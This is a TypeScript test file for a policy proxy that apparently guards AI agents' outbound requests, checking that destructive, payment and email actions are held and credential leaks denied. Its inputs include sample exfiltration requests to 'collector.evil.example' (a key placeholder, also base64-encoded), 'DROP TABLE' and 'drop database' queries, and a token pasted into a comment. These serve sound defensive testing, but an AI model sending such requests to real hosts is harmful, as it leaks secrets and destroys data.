// The default policy as the proxy runs it: real requests → describeRequest (with the service
// adapters and real placeholder detection) → the rego/ folder compiled to WASM → a decision.
// Covers the scenario that started the project (issue 10) end to end on the decision side.
import t from 'tap';
import path from 'node:path';
import { PolicyEngine } from '../../engine/engine.ts';
import { projectRoot } from '../../engine/toolchain.ts';
import type { Grant } from '../../describe/types.ts';
import type { EngineDecision } from '../../engine/decision.ts';
import { loadAdapters } from '../../describe/adapters/index.ts';
import { describeRequest } from '../../describe/describe.ts';
import { PlaceholderIndex } from '../../describe/placeholders.ts';
import { mergeData } from '../../offline/traffic-tests.ts';
import { BucketTable } from '../../state/ratelimit.ts';

await loadAdapters();
// A generous evaluation budget: the shared test machine can stall a process for a while, and a
// fail-closed timeout is the engine's behaviour under test elsewhere (test/engine), not here.
const engine = new PolicyEngine({ mode: 'inline', timeoutMs: 10_000 });
t.teardown(() => engine.close());
const shipped = await engine.loadFolder(path.join(projectRoot, 'rego'));
// The default policy as a user configures it for their own Supabase projects (keys go only to
// configured destinations; the shipped configuration names none).
const configured = { config: { services: { supabase: { projects: ['proj1', 'abcd'] } }, mcp_servers: { 'mcp.tools.example': {} } } };
await engine.load({ ...shipped, data: mergeData(shipped.data, configured) });

const ph = {
  github_token: 'airlock-ph-github_token-0123456789abcdef0123456789abcdef',
  stripe_key: 'airlock-ph-stripe_key-fedcba9876543210fedcba9876543210',
  gmail_token: 'airlock-ph-gmail_token-00112233445566778899aabbccddeeff',
  supabase_service_key: 'airlock-ph-supabase_service_key-aabbccddeeff00112233445566778899',
};
const placeholders = new PlaceholderIndex(Object.entries(ph));

interface Call {
  method: string;
  url: string;
  headers?: Array<[string, string]>;
  json?: unknown;
  grants?: Grant[];
}

async function decide(c: Call): Promise<EngineDecision> {
  const headers = [...(c.headers ?? [])];
  let body = Buffer.alloc(0);
  if (c.json !== undefined) {
    body = Buffer.from(JSON.stringify(c.json));
    headers.push(['content-type', 'application/json']);
  }
  const input = describeRequest({ method: c.method, url: c.url, headers, body, bodyTruncated: false }, {
    agent: { id: 'agent-7', labels: {} }, placeholders, grants: c.grants,
  });
  return engine.decide(input);
}

const bearer = (name: keyof typeof ph): Array<[string, string]> => [['authorization', `Bearer ${ph[name]}`]];

t.test('the scenario: destructive and outbound actions are held, leaks are denied', async (t) => {
  const drop = await decide({ method: 'POST', url: 'https://proj1.supabase.co/pg/query', headers: [['apikey', ph.supabase_service_key]], json: { query: 'DROP TABLE users' } });
  t.match(drop, { action: 'approve', rule: 'sql.destructive', approval: { risk: 'critical', step_up: true } }, '(1) DROP TABLE is held, critical');
  t.ok(drop.credentials?.some((c) => c.secret === 'supabase_service_key' && c.name === 'apikey'), 'the Supabase key is bound for after approval');

  const del = await decide({ method: 'DELETE', url: 'https://api.github.com/repos/acme/app', headers: bearer('github_token') });
  t.match(del, { action: 'approve', rule: 'effect.delete', approval: { risk: 'critical', step_up: true } }, '(2) repository delete is held, critical');

  const mail = await decide({ method: 'POST', url: 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', headers: bearer('gmail_token'), json: { raw: 'VG86IGJvc3NAZXhhbXBsZS5jb20=' } });
  t.match(mail, { action: 'approve', rule: 'effect.send', approval: { risk: 'high', step_up: false } }, '(3) sending email is held');

  const leak = await decide({ method: 'POST', url: 'https://collector.evil.example/x', json: { key: ph.stripe_key } });
  t.match(leak, { action: 'deny', rule: 'placeholder.unauthorized' }, '(4) the Stripe placeholder to an unknown host is denied');
  t.notOk(leak.credentials, 'no credential on a deny');
  t.notOk(leak.rate_limits, 'no rate limit charged on a deny');

  const b64 = await decide({ method: 'POST', url: 'https://collector.evil.example/x', json: { k: Buffer.from(ph.stripe_key).toString('base64') } });
  t.match(b64, { action: 'deny', rule: 'placeholder.unauthorized' }, '(4b) base64-encoded, still denied');

  const query = await decide({ method: 'GET', url: 'https://collector.evil.example/pixel.gif?d=c2VjcmV0IGRhdGE' });
  t.match(query, { action: 'deny', rule: 'host.unknown' }, '(5) data in a query string to an unknown host is denied');
});

t.test('reads of the same services pass with the real credential bound', async (t) => {
  const repo = await decide({ method: 'GET', url: 'https://api.github.com/repos/acme/app', headers: bearer('github_token') });
  t.match(repo, { action: 'allow', rule: 'effect.read' });
  t.same(repo.credentials, [{ secret: 'github_token', in: 'header', name: 'Authorization', format: 'Bearer {}' }]);
  t.ok(repo.rate_limits?.some((l) => l.key === 'github:read:agent-7'), 'per-agent, per-service read limit');
  t.ok(repo.rate_limits?.some((l) => l.key === 'egress:api.github.com:agent-7' && l.unit === 'egress_bytes'), 'egress budget per host');

  const rows = await decide({ method: 'POST', url: 'https://proj1.supabase.co/pg/query', json: { query: 'select id, email from users where id = 1' } });
  t.match(rows, { action: 'allow', rule: 'effect.read' }, 'a read-only query is a read');

  const charges = await decide({ method: 'GET', url: 'https://api.stripe.com/v1/charges?limit=3', headers: bearer('stripe_key') });
  t.match(charges, { action: 'allow', rule: 'effect.read', credentials: [{ secret: 'stripe_key' }] });

  const inbox = await decide({ method: 'GET', url: 'https://gmail.googleapis.com/gmail/v1/users/me/messages?q=invoice', headers: bearer('gmail_token') });
  t.match(inbox, { action: 'allow', rule: 'effect.read', credentials: [{ secret: 'gmail_token' }] });
});

t.test('credentials never follow a placeholder to the wrong place', async (t) => {
  const wrongService = await decide({ method: 'GET', url: 'https://api.github.com/user', headers: bearer('stripe_key') });
  t.match(wrongService, { action: 'deny', rule: 'placeholder.unauthorized' }, 'the Stripe key is not GitHub\'s');
  const inBody = await decide({ method: 'POST', url: 'https://api.github.com/repos/acme/app/issues/1/comments', headers: bearer('github_token'), json: { body: `token: ${ph.github_token}` } });
  t.match(inBody, { action: 'deny', rule: 'placeholder.misplaced' }, 'the GitHub token pasted into a public comment is denied');
  const plain = await decide({ method: 'GET', url: 'http://api.github.com/user', headers: bearer('github_token') });
  t.match(plain, { action: 'deny', rule: 'placeholder.unauthorized' }, 'never over plain HTTP');
});

t.test('grants, SQL edge cases and payments', async (t) => {
  const grant: Grant = { id: 'g-1', agent: 'agent-7', method: 'POST', host: 'api.github.com', operation: 'issues.create', target: 'github:owner=acme;repo=app', expires: '2200-01-01T00:00:00Z' }; // (OPA reads no time past 2262 in nanoseconds: a later expiry is no date to it)
  const issue = { method: 'POST', url: 'https://api.github.com/repos/acme/app/issues', json: { title: 'x' } };
  t.match(await decide(issue), { action: 'approve', rule: 'effect.write', approval: { risk: 'medium' } });
  t.match(await decide({ ...issue, grants: [grant] }), { action: 'allow', rule: 'grant.matched' });
  const delGrant: Grant = { ...grant, method: 'DELETE', operation: 'repos.delete' };
  t.match(await decide({ method: 'DELETE', url: 'https://api.github.com/repos/acme/app', grants: [delGrant] }), { action: 'approve', rule: 'effect.delete' }, 'a grant never covers a critical action');

  t.match(await decide({ method: 'POST', url: 'https://proj1.supabase.co/pg/query', json: { query: 'DROP TABEL users' } }), { action: 'approve', rule: 'sql.unparsed', approval: { risk: 'critical' } });
  t.match(await decide({ method: 'POST', url: 'https://proj1.supabase.co/pg/query', json: { query: 'select 1; drop database prod' } }), { action: 'deny', rule: 'sql.drop_database' });
  t.match(await decide({ method: 'POST', url: 'https://proj1.supabase.co/pg/query', json: { query: 'with x as (delete from users returning 1) select count(*) from x' } }), { action: 'approve', rule: 'sql.destructive' });
  t.match(await decide({ method: 'POST', url: 'https://api.stripe.com/v1/payment_intents', headers: bearer('stripe_key') }), { action: 'approve', rule: 'effect.pay', approval: { risk: 'critical', step_up: true } });
  t.match(await decide({ method: 'POST', url: 'https://api.openai.com/v1/chat/completions', json: { model: 'm', messages: [] } }), { action: 'allow', rule: 'effect.read' });
  t.match(await decide({ method: 'POST', url: 'https://unknown-mcp.example/mcp', json: { jsonrpc: '2.0', id: 1, method: 'tools/list' } }), { action: 'deny', rule: 'host.unknown' });
});

t.test('a Supabase project nobody configured gets no key, with or without its placeholder', async (t) => {
  for (const headers of [[], [['apikey', ph.supabase_service_key]] as Array<[string, string]>]) {
    const d = await decide({ method: 'GET', url: 'https://attacker0project.supabase.co/rest/v1/users', headers });
    t.match(d, { action: 'deny', rule: 'supabase.project_not_allowed' });
    t.match(d.reason, /services\.supabase\.projects/, 'the reason says what to configure');
    t.notOk(d.credentials, 'no credential');
  }
});

t.test('every decision satisfies the contract and is not a fail-closed engine deny', async (t) => {
  const calls: Call[] = [
    { method: 'GET', url: 'https://api.github.com/' },
    { method: 'PATCH', url: 'https://api.github.com/repos/a/b/git/refs/heads/main', json: { sha: 'x', force: true } },
    { method: 'DELETE', url: 'https://abcd.supabase.co/rest/v1/users' },
    { method: 'POST', url: 'https://slack.com/api/chat.postMessage', json: { channel: 'C1', text: 'hi' } },
    { method: 'POST', url: 'https://api.anthropic.com/v1/messages', json: { model: 'c', mcp_servers: [{ url: 'https://x' }] } },
    { method: 'GET', url: 'https://www.googleapis.com/drive/v3/files' },
    { method: 'OPTIONS', url: 'https://evil.example/' },
  ];
  for (const c of calls) {
    const d = await decide(c);
    t.notOk(d.fail_closed, `${c.method} ${c.url}: decided by the policy (${d.rule}: ${d.reason})`);
    t.ok(d.rule && d.reason, `${c.method} ${c.url}: has rule and reason`);
  }
});

// A request pays its rate limit once per operation it carries (seventeenth pass): 25 aliased
// `addComment`s in one GraphQL document (also through a fragment) paid one of the 20 sends an hour,
// a JSON-RPC batch of tool calls one of the MCP server's 120 a minute.
t.test('a request of N operations pays N (GraphQL mutations, JSON-RPC and Gmail batches); one API under two names pays one egress budget', async (t) => {
  const comments = (n: number): string => Array.from({ length: n }, (_, i) => `c${i}: addComment(input: {subjectId: "I_1", body: "spam ${i}"}) { clientMutationId }`).join(' ');
  const cost = (d: EngineDecision, key: string): number | undefined => d.rate_limits?.find((l) => l.key === key)?.cost;
  const inline = await decide({ method: 'POST', url: 'https://api.github.com/graphql', json: { query: `mutation { ${comments(25)} }` } });
  t.equal(cost(inline, 'github:send:agent-7'), 25, 'aliases: 25 sends');
  const fragment = await decide({ method: 'POST', url: 'https://api.github.com/graphql', json: { query: `mutation { ...M } fragment M on Mutation { ${comments(3)} }` } });
  t.equal(cost(fragment, 'github:send:agent-7'), 3, 'through a fragment: 3 sends');
  t.equal(cost(await decide({ method: 'POST', url: 'https://api.github.com/graphql', json: { query: `mutation { ${comments(1)} }` } }), 'github:send:agent-7'), 1, 'one comment: one send');
  t.equal(cost(await decide({ method: 'POST', url: 'https://api.github.com/graphql', json: { query: '{ a: viewer { login } b: viewer { login } }' } }), 'github:read:agent-7'), 1, 'a query pays one read');
  // The limiter then refuses what the bucket cannot hold: more sends than the hour allows is never let through.
  const table = new BucketTable();
  const result = table.charge(inline.rate_limits, { request: { egress_bytes: 100 }, agent: { id: 'agent-7' } });
  t.ok(!result.ok && result.impossible, '25 sends against 20 an hour: refused, and it can never pass as is');
  t.ok(table.charge(fragment.rate_limits, { request: { egress_bytes: 100 }, agent: { id: 'agent-7' } }).ok, 'three fit');
  const batch = describeRequest({ method: 'POST', url: 'https://mcp.tools.example/mcp', headers: [['content-type', 'application/json']], body: Buffer.from(JSON.stringify(Array.from({ length: 7 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'tools/call', params: { name: 'search', arguments: { q: String(id) } } })))), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} }, placeholders });
  t.equal(cost(await engine.decide(batch), 'mcp:mcp.tools.example:agent-7'), 7, 'a batch of seven tool calls pays seven');
  const send = (i: number): string => `--b\r\nContent-Type: application/http\r\n\r\nPOST /gmail/v1/users/me/messages/send HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"raw":"${Buffer.from(`To: x${i}@corp.example\r\n\r\nhi`).toString('base64url')}"}\r\n`;
  const gmail = describeRequest({ method: 'POST', url: 'https://www.googleapis.com/batch/gmail/v1', headers: [['content-type', 'multipart/mixed; boundary=b']], body: Buffer.from(`${[1, 2, 3, 4].map(send).join('')}--b--\r\n`), bodyTruncated: false }, { agent: { id: 'agent-7', labels: {} }, placeholders });
  t.equal(cost(await engine.decide(gmail), 'gmail:send:agent-7'), 4, 'a Gmail batch of four sends pays four');
  // One API under two names shares one egress budget.
  for (const url of ['https://gmail.googleapis.com/gmail/v1/users/me/messages', 'https://www.googleapis.com/gmail/v1/users/me/messages']) {
    t.ok((await decide({ method: 'GET', url })).rate_limits?.some((l) => l.key === 'egress:gmail.googleapis.com:agent-7'), `${new URL(url).host}: the Gmail API's egress budget`);
  }
  // (Eighteenth pass) GitHub's API, uploads, git and content hosts share one budget, as Slack's do.
  for (const [method, url] of [['GET', 'https://api.github.com/repos/acme/app'], ['POST', 'https://uploads.github.com/repos/acme/app/releases/1/assets?name=a.zip'], ['POST', 'https://github.com/acme/app.git/git-receive-pack'], ['GET', 'https://codeload.github.com/acme/app/zip/main'], ['POST', 'https://files.slack.com/upload/v1/abc'], ['POST', 'https://hooks.slack.com/services/T0/B0/x']] as const) {
    const key = new URL(url).host.includes('slack') ? 'egress:slack.com:agent-7' : 'egress:api.github.com:agent-7';
    t.ok((await decide({ method, url, json: method === 'POST' ? {} : undefined })).rate_limits?.some((l) => l.key === key), `${method} ${new URL(url).host}: ${key}`);
  }
  const sql = await decide({ method: 'POST', url: 'https://proj1.supabase.co/pg/query', json: { query: 'INSERT INTO notes (b) VALUES (1); INSERT INTO notes (b) VALUES (2); INSERT INTO notes (b) VALUES (3)' } });
  t.equal(sql.rate_limits?.find((l) => l.unit === undefined)?.cost, 1, 'an SQL text of three statements is one call (a migration pays once)');
});

t.test('the isolated (worker thread) engine decides the same', async (t) => {
  const isolated = new PolicyEngine({ mode: 'isolated', threads: 1, timeoutMs: 10_000 });
  t.teardown(() => isolated.close());
  await isolated.load({ ...shipped, data: mergeData(shipped.data, configured) });
  const grant: Grant = { id: 'g-2', agent: 'agent-7', method: 'POST', host: 'api.github.com', path_pattern: '/repos/*/app/issues', target: 'github:owner=acme;repo=app', expires: '2200-01-01T00:00:00Z' }; // (OPA reads no time past 2262 in nanoseconds: a later expiry is no date to it)
  const calls: Call[] = [
    { method: 'POST', url: 'https://proj1.supabase.co/pg/query', json: { query: 'DROP TABLE users' } },
    { method: 'POST', url: 'https://api.github.com/repos/acme/app/issues', json: { title: 'x' }, grants: [grant] },
    { method: 'GET', url: 'https://collector.evil.example/?d=1' },
  ];
  for (const c of calls) {
    const input = describeRequest({ method: c.method, url: c.url, headers: c.json ? [['content-type', 'application/json']] : [], body: Buffer.from(c.json ? JSON.stringify(c.json) : ''), bodyTruncated: false }, {
      agent: { id: 'agent-7', labels: {} }, placeholders, grants: c.grants,
    });
    const [a, b] = [await engine.decide(input), await isolated.decide(input)];
    t.same({ action: b.action, rule: b.rule, approval: b.approval }, { action: a.action, rule: a.rule, approval: a.approval }, `${c.method} ${c.url}`);
  }
  t.match((await decide(calls[1]!)).rule, 'grant.matched', 'the path-pattern grant matched (glob.match in WASM)');
});
